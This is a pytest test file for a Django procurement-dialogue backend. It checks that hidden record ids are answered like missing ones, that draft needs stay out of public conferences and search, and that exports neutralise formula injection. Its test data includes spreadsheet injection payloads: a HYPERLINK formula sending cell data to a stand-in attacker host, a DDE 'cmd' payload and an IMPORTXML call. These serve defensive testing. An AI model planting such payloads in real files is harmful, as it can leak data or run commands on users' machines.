"""The leaks found by review and black-box probes (issue 9), each attacked from outside.

An id of a row the user may not see is answered exactly like an id that does not exist:
in request bodies (validation errors) and in query-parameter filters.
"""

import codecs
import csv
import io
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.utils.dateparse import parse_datetime
from openpyxl import load_workbook
from rest_framework.response import Response as ApiResponse

from backend.audit.models import AuditEvent
from backend.common.exports import XLSX_TYPE, Table, formula_like, table_csv
from backend.dialogue.models import DialogueConference
from backend.dialogue.services import conference_create
from backend.discovery.documents import conference_document
from backend.discovery.services import search_sync
from backend.matches.models import Match
from backend.matches.services import matches_recompute_for_needs
from backend.needs.models import Need
from backend.needs.services import need_close, need_unpublish
from backend.notifications.models import Notification
from backend.outbox.models import OutboxEntry
from backend.responses.models import Response
from tests.backend.conftest import World, reindex
from tests.factories import (
    ConferenceFactory,
    MatchFactory,
    NeedFactory,
    OrganizationFactory,
    RegistrationFactory,
    SolutionFactory,
)

MISSING = 987654321


def _same(hidden: ApiResponse, missing: ApiResponse, hidden_id: int) -> None:
    """Both answers are equal once the id the caller sent is taken out."""
    assert hidden.status_code == missing.status_code
    body = hidden.content.decode().replace(str(hidden_id), "ID")
    assert body == missing.content.decode().replace(str(MISSING), "ID")


def _conference(w: World, need_ids: list[int], **over: Any) -> dict[str, Any]:
    return {
        "organization": w.other_buyer_org.pk,
        "need_ids": need_ids,
        "title": "Dialogkonferanse om trygghet",
        "starts_at": "2030-03-01T09:00:00+01:00",
        "ends_at": "2030-03-01T12:00:00+01:00",
        "registration_deadline": "2030-02-20T12:00:00+01:00",
        "format": "physical",
        "location": "Trondheim rådhus",
        "capacity": 30,
        **over,
    }


def test_another_buyers_draft_need_on_a_new_conference_is_answered_as_missing(
    world: World,
) -> None:
    # given: Bergen's draft, and a Trondheim buyer who may not see it
    client = world.client("other_buyer")
    draft = world.draft_need
    before = DialogueConference.objects.count()
    # when
    hidden = client.post("/api/conferences/", _conference(world, [draft.pk]), format="json")
    missing = client.post("/api/conferences/", _conference(world, [MISSING]), format="json")
    # then
    assert hidden.status_code == 400
    assert draft.title not in hidden.content.decode()
    _same(hidden, missing, draft.pk)
    assert DialogueConference.objects.count() == before


def test_another_buyers_draft_need_on_a_conference_edit_is_answered_as_missing(
    world: World,
) -> None:
    # given: Trondheim's own conference
    conference = ConferenceFactory(organization=world.other_buyer_org)
    client = world.client("other_buyer")
    url = f"/api/conferences/{conference.pk}/"
    # when
    hidden = client.patch(url, {"need_ids": [world.draft_need.pk]}, format="json")
    missing = client.patch(url, {"need_ids": [MISSING]}, format="json")
    # then
    assert hidden.status_code == 400
    assert world.draft_need.title not in hidden.content.decode()
    _same(hidden, missing, world.draft_need.pk)
    assert not conference.needs.exists()


def test_another_buyers_published_need_is_refused_by_name(world: World) -> None:
    # given: Bergen's published need is public
    client = world.client("other_buyer")
    # when
    answer = client.post("/api/conferences/", _conference(world, [world.need.pk]), format="json")
    # then: naming it reveals nothing hidden
    assert answer.status_code == 400
    assert world.need.title in answer.json()["need_ids"][0]


def test_the_service_never_names_a_hidden_need(world: World) -> None:
    # given: a caller that skips the API's scoping
    user = world.users["other_buyer"]
    data = _conference(world, [])
    data = {k: v for k, v in data.items() if k not in ("organization", "need_ids")}
    data |= {k: parse_datetime(data[k]) for k in ("starts_at", "ends_at", "registration_deadline")}
    data |= {"needs": [world.draft_need]}
    # when
    with pytest.raises(ValidationError) as refused:
        conference_create(user=user, organization=world.other_buyer_org, data=data)  # type: ignore[arg-type]
    # then
    assert world.draft_need.title not in str(refused.value)
    assert f"#{world.draft_need.pk}" in str(refused.value)


def test_a_response_to_a_hidden_draft_need_is_answered_as_missing(world: World) -> None:
    # given
    client = world.client("supplier")
    before = Response.objects.count()

    def post(need_id: int) -> ApiResponse:
        body = {
            "need": need_id,
            "organization": world.supplier_org.pk,
            "summary": "Innspill",
            "body": "Vi har en løsning som passer godt til dette behovet.",
        }
        return client.post("/api/responses/", body, format="json")

    # when
    hidden, missing = post(world.draft_need.pk), post(MISSING)
    # then
    assert hidden.status_code == 400
    _same(hidden, missing, world.draft_need.pk)
    assert Response.objects.count() == before


@pytest.mark.parametrize("field", ["need", "other_need", "solution"])
def test_a_manual_match_from_a_non_advisor_does_not_tell_hidden_ids_from_missing(
    world: World, field: str
) -> None:
    # given: a buyer, and ids of drafts it may not see
    other_draft = NeedFactory(organization=world.other_buyer_org, status=Need.Status.DRAFT)
    hidden_ids = {
        "need": other_draft.pk,
        "other_need": other_draft.pk,
        "solution": world.draft_solution.pk,
    }
    client = world.client("buyer")
    base = {"need": world.need.pk, "solution": world.solution.pk}
    before = Match.objects.count()
    # when
    hidden = client.post("/api/matches/", base | {field: hidden_ids[field]}, format="json")
    missing = client.post("/api/matches/", base | {field: MISSING}, format="json")
    # then
    assert hidden.status_code == 400
    _same(hidden, missing, hidden_ids[field])
    assert Match.objects.count() == before


@pytest.mark.parametrize(
    ("role", "url", "hidden"),
    [
        ("visitor", "/api/conferences/?needs={}", "draft_need"),
        ("other_buyer", "/api/conferences/?needs={}", "draft_need"),
        ("other_buyer", "/api/matches/?need={}", "draft_need"),
        ("other_buyer", "/api/matches/?solution={}", "draft_solution"),
        ("other_buyer", "/api/responses/?need={}", "draft_need"),
        ("supplier", "/api/slots/mine/?conference={}", "draft_conference"),
    ],
)
def test_a_filter_on_a_hidden_id_answers_as_for_a_missing_one(
    world: World, role: str, url: str, hidden: str
) -> None:
    # given: a published conference that links the draft need (what a filter could probe)
    world.conference.needs.add(world.draft_need)
    draft_conference = ConferenceFactory(
        organization=world.buyer_org, status=DialogueConference.Status.DRAFT
    )
    ids = {
        "draft_need": world.draft_need.pk,
        "draft_solution": world.draft_solution.pk,
        "draft_conference": draft_conference.pk,
    }
    client = world.client(role)
    # when
    hidden_answer = client.get(url.format(ids[hidden]))
    missing_answer = client.get(url.format(MISSING))
    # then
    assert hidden_answer.status_code == 400
    _same(hidden_answer, missing_answer, ids[hidden])


# ------------------------------------------------- 2. a public conference links a draft need


def _linked_draft(w: World) -> Need:
    draft = NeedFactory(
        organization=w.buyer_org,
        status=Need.Status.DRAFT,
        published_at=None,
        title="Hemmelig utkast om snøsmelting",
        sector="bygg-og-eiendom",
        cpv_codes=["45000000"],
        stage="konkurranse",
    )
    w.conference.needs.add(draft)
    return draft


@pytest.mark.parametrize("role", ["visitor", "other_buyer", "supplier"])
def test_a_public_conference_shows_no_draft_need_to_those_who_may_not_see_it(
    world: World, role: str
) -> None:
    # given: Bergen's published conference links a published need and a draft
    draft = _linked_draft(world)
    client = world.client(role)
    # when
    detail = client.get(f"/api/conferences/{world.conference.pk}/")
    listing = client.get("/api/conferences/")
    # then
    assert [n["id"] for n in detail.json()["needs"]] == [world.need.pk]
    for answer in (detail, listing):
        assert draft.title not in answer.content.decode()
        assert f'"id":{draft.pk},' not in answer.content.decode().replace(" ", "")


@pytest.mark.parametrize("role", ["buyer", "advisor"])
def test_the_host_and_advisors_see_every_need_of_the_conference(world: World, role: str) -> None:
    # given
    draft = _linked_draft(world)
    # when
    detail = world.client(role).get(f"/api/conferences/{world.conference.pk}/")
    # then
    assert {n["id"] for n in detail.json()["needs"]} == {world.need.pk, draft.pk}


def test_a_conference_search_document_derives_only_from_published_needs(world: World) -> None:
    # given: a published conference whose only need is a draft
    conference = ConferenceFactory(organization=world.buyer_org)
    draft = NeedFactory(
        organization=world.buyer_org,
        status=Need.Status.DRAFT,
        sector="bygg-og-eiendom",
        cpv_codes=["45000000"],
        stage="konkurranse",
    )
    conference.needs.add(draft)
    # when
    search_sync(entity="conference", ids=[conference.pk])
    document = conference_document(conference)
    found = world.client("visitor").get(
        "/api/search/", {"type": "conference", "sector": "bygg-og-eiendom"}
    )
    by_cpv = world.client("visitor").get(
        "/api/search/", {"type": "conference", "cpv_code": "45000000"}
    )
    # then
    assert (document.sector, document.cpv_codes, document.stage) == ("", (), None)
    assert conference.pk not in [h["id"] for h in found.json()["results"]]
    assert conference.pk not in [h["id"] for h in by_cpv.json()["results"]]


@pytest.mark.parametrize("change", [need_unpublish, need_close])
def test_a_need_leaving_publication_refreshes_the_conferences_that_link_it(
    world: World, django_capture_on_commit_callbacks: Any, change: Any
) -> None:
    # given: a published need with its own sector, linked to a published conference
    need = NeedFactory(organization=world.buyer_org, sector="mobilitet-og-transport")
    conference = ConferenceFactory(organization=world.buyer_org, needs=[need])
    search_sync(entity="conference", ids=[conference.pk])

    def hits() -> list[int]:
        answer = world.client("visitor").get(
            "/api/search/", {"type": "conference", "sector": "mobilitet-og-transport"}
        )
        return [h["id"] for h in answer.json()["results"]]

    assert conference.pk in hits()
    # when: the need goes back to draft, or is closed
    with django_capture_on_commit_callbacks(execute=True):
        change(user=world.users["buyer"], need=need)
    # then
    assert conference.pk not in hits()
    assert OutboxEntry.objects.filter(
        entity="conference", entity_id=conference.pk, processed_at__isnull=False
    ).exists()


# ------------------------------------------------- 3. exports a spreadsheet would run

FORMULAS = (
    '=HYPERLINK("https://angriper.example/?d="&A2;"Klikk")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
)


def _rows(answer: ApiResponse) -> list[list[str]]:
    content: bytes = answer.content
    assert content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _runnable(cell: str) -> bool:
    return formula_like(cell)


def test_every_trigger_of_owasps_list_is_neutralised_and_numbers_are_kept() -> None:
    # given
    table = Table(title="Ark", header=("a",), rows=[(f,) for f in FORMULAS] + [(12,), (-0.5,)])
    # when
    rows = list(csv.reader(io.StringIO(table_csv(table).removeprefix("\ufeff"), newline="")))
    # then
    assert [r[0] for r in rows[1:-2]] == ["'" + f for f in FORMULAS]
    assert [r[0] for r in rows[-2:]] == ["12", "-0.5"]
    assert not any(_runnable(r[0]) for r in rows[1:-2])


def test_a_participant_named_like_a_formula_arrives_as_text_in_the_participants_csv(
    world: World,
) -> None:
    # given: names stored before any input check (or by a careless import)
    people = [{"name": f, "email": "x@helsetek.no", "role": f} for f in FORMULAS]
    people.append({"name": "Åse Ødegård Æsøy", "email": "ase@helsetek.no", "role": ""})
    RegistrationFactory(
        conference=world.conference, organization=world.supplier_org, participants=people
    )
    # when
    answer = world.client("buyer").get(
        f"/api/conferences/{world.conference.pk}/registrations/export/"
    )
    # then
    rows = _rows(answer)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert [r[2] for r in rows[1:-1]] == ["'" + f for f in FORMULAS]
    assert rows[-1][2] == "Åse Ødegård Æsøy"
    assert not any(_runnable(cell) for row in rows for cell in row)


def test_titles_names_and_reasons_like_formulas_arrive_as_text_in_the_match_export(
    world: World,
) -> None:
    # given: every text column of the export holds a formula
    buyer = OrganizationFactory(name="=cmd|' /C calc'!A0")
    supplier = OrganizationFactory(name="@SUM(1)", kind="supplier")
    need = NeedFactory(organization=buyer, title='+HYPERLINK("https://x.example")')
    solution = SolutionFactory(organization=supplier, title="-1+1")
    MatchFactory(
        need=need,
        solution=solution,
        state=Match.State.REJECTED,
        rejection_reason='\t=IMPORTXML("https://x.example")',
    )
    # when
    answer = world.client("advisor").get("/api/matches/export/")
    # then
    rows = _rows(answer)
    row = next(r for r in rows if r[1].startswith("'+HYPERLINK"))
    assert row[2:5] == ["'=cmd|' /C calc'!A0", "'-1+1", "'@SUM(1)"]
    assert row[7] == '\'\t=IMPORTXML("https://x.example")'
    assert not any(_runnable(cell) for r in rows for cell in r)


def test_the_participants_export_as_xlsx_holds_formulas_as_plain_text(world: World) -> None:
    # given
    people = [{"name": f, "email": "x@helsetek.no", "role": "Åse"} for f in FORMULAS[:4]]
    RegistrationFactory(
        conference=world.conference, organization=world.supplier_org, participants=people
    )
    url = f"/api/conferences/{world.conference.pk}/registrations/export/?file_format=xlsx"
    # when
    answer = world.client("buyer").get(url)
    # then
    assert answer["Content-Type"] == XLSX_TYPE
    assert answer["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    names = [c.value for c in cells if c.column == 3][1:]
    assert names == list(FORMULAS[:4])
    assert all(c.quotePrefix for c in cells if c.column == 3 and c.row > 1)
    assert [c.value for c in cells if c.column == 5][1] == "Åse"


def test_the_match_export_as_xlsx_keeps_numbers_as_numbers(world: World) -> None:
    # when
    answer = world.client("advisor").get("/api/matches/export/?file_format=xlsx")
    # then
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    first = {h: c.value for h, c in zip(header, sheet[2], strict=True)}
    assert first["id"] == world.match.pk and first["score"] == 0.8


def test_an_unknown_export_format_is_refused_and_nothing_is_exported(world: World) -> None:
    # given
    before = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).count()
    # when
    answer = world.client("advisor").get("/api/matches/export/?file_format=pdf")
    # then
    assert answer.status_code == 400
    assert "file_format" in answer.json()
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).count() == before


# ------------------------------------------------- 4. matches: archived solutions, rejected pairs


def _match_paths(match: Match) -> list[str]:
    return [
        "/api/matches/",
        f"/api/matches/{match.pk}/",
        f"/api/needs/{match.need_id}/matches/",
        f"/api/needs/{match.need_id}/similar/",
    ]


def test_a_buyer_no_longer_reads_an_archived_solution_through_its_matches(world: World) -> None:
    # given: a match of Bergen's need with a solution that its supplier then archived
    secret = "Arkivert: vår gamle radarløsning med forretningshemmelig oppsett"
    solution = SolutionFactory(organization=world.supplier_org, title=secret)
    match = MatchFactory(need=world.need, solution=solution, best_pair=["Behov.", secret])
    archive = world.client("supplier").post(f"/api/solutions/{solution.pk}/archive/")
    assert archive.status_code == 200
    buyer = world.client("buyer")
    # when
    answers = [buyer.get(path) for path in _match_paths(match)]
    missing = buyer.get(f"/api/matches/{MISSING}/")
    # then
    assert all(secret not in a.content.decode() for a in answers)
    _same(answers[1], missing, match.pk)
    # and the open pair left every list at once, the advisor's too
    assert match.pk not in [
        m["id"] for m in world.client("advisor").get("/api/matches/").json()["results"]
    ]


def test_a_buyer_never_sees_another_buyers_draft_as_a_similar_need(world: World) -> None:
    # given: Trondheim's need went back to draft after the engine paired it with Bergen's
    other = NeedFactory(organization=world.other_buyer_org, title="Trondheims hemmelige utkast")
    match = MatchFactory(
        need=world.need, solution=None, other_need=other, kind=Match.Kind.NEED_NEED
    )
    need_unpublish(user=world.users["other_buyer"], need=other)
    buyer = world.client("buyer")
    # when
    answers = [buyer.get(path) for path in _match_paths(match)]
    # then
    assert all(other.title not in a.content.decode() for a in answers)
    assert answers[1].status_code == 404


def _need_pair(w: World) -> tuple[Need, Need, Match, Match]:
    bergen, trondheim = w.need, NeedFactory(organization=w.other_buyer_org)
    forward = MatchFactory(
        need=bergen, solution=None, other_need=trondheim, kind=Match.Kind.NEED_NEED
    )
    backward = MatchFactory(
        need=trondheim, solution=None, other_need=bergen, kind=Match.Kind.NEED_NEED
    )
    return bergen, trondheim, forward, backward


def test_a_rejected_need_pair_does_not_come_back_from_the_other_side(world: World) -> None:
    # given: the engine paired the two needs from both sides
    _, trondheim, forward, backward = _need_pair(world)
    advisor = world.client("advisor")
    # when: the advisor rejects the pair seen from Bergen's side
    rejected = advisor.post(
        f"/api/matches/{forward.pk}/reject/", {"reason": "Ulike behov"}, format="json"
    )
    # then: Trondheim's side of it is gone too, and cannot be revived
    assert rejected.status_code == 200
    other_buyer = world.client("other_buyer")
    assert other_buyer.get(f"/api/matches/{backward.pk}/").status_code == 404
    listed = other_buyer.get(f"/api/needs/{trondheim.pk}/similar/").json()["results"]
    assert backward.pk not in [m["id"] for m in listed]
    queue = advisor.get("/api/matches/queue/").json()["results"]
    assert backward.pk not in [m["id"] for m in queue]
    revived = advisor.post(f"/api/matches/{backward.pk}/introduce/")
    assert revived.status_code == 400
    assert Match.objects.get(pk=backward.pk).state == Match.State.REJECTED


def test_a_pair_rejected_before_the_other_side_existed_is_not_created_by_the_engine(
    world: World,
) -> None:
    # given: Bergen ↔ Trondheim rejected, Trondheim's need not yet ranked
    trondheim = NeedFactory(organization=world.other_buyer_org)
    skien = NeedFactory(organization=OrganizationFactory(name="Skien kommune"))
    MatchFactory(
        need=world.need,
        solution=None,
        other_need=trondheim,
        kind=Match.Kind.NEED_NEED,
        state=Match.State.REJECTED,
        rejection_reason="Ulike behov",
    )
    reindex()
    # when
    matches_recompute_for_needs(need_ids=[trondheim.pk])
    # then: Trondheim gets its other similar needs, never Bergen's
    similar = Match.objects.filter(need=trondheim, kind=Match.Kind.NEED_NEED)
    assert similar.filter(other_need=skien).exists()
    assert not similar.filter(other_need=world.need).exists()


def test_a_rejected_pair_cannot_be_put_back_by_hand_from_the_other_side(world: World) -> None:
    # given
    bergen, trondheim, forward, backward = _need_pair(world)
    backward.delete()
    advisor = world.client("advisor")
    advisor.post(f"/api/matches/{forward.pk}/reject/", {"reason": "Ulike behov"}, format="json")
    # when
    manual = advisor.post(
        "/api/matches/", {"need": trondheim.pk, "other_need": bergen.pk}, format="json"
    )
    # then
    assert manual.status_code == 400
    assert not Match.objects.filter(need=trondheim, other_need=bergen).exists()


def test_an_archived_solution_is_never_introduced_to_the_buyer(
    world: World, django_capture_on_commit_callbacks: Any
) -> None:
    # given: a shortlisted match whose solution was archived since
    solution = SolutionFactory(organization=world.supplier_org, title="Arkivert sensorløsning")
    match = MatchFactory(need=world.need, solution=solution, state=Match.State.SHORTLISTED)
    world.client("supplier").post(f"/api/solutions/{solution.pk}/archive/")
    # when
    with django_capture_on_commit_callbacks(execute=True):
        answer = world.client("advisor").post(f"/api/matches/{match.pk}/introduce/")
    # then: the open pair left every list when the solution was archived
    assert answer.status_code == 404
    assert not Notification.objects.filter(body__contains=solution.title).exists()
    assert Match.objects.get(pk=match.pk).state == Match.State.SHORTLISTED
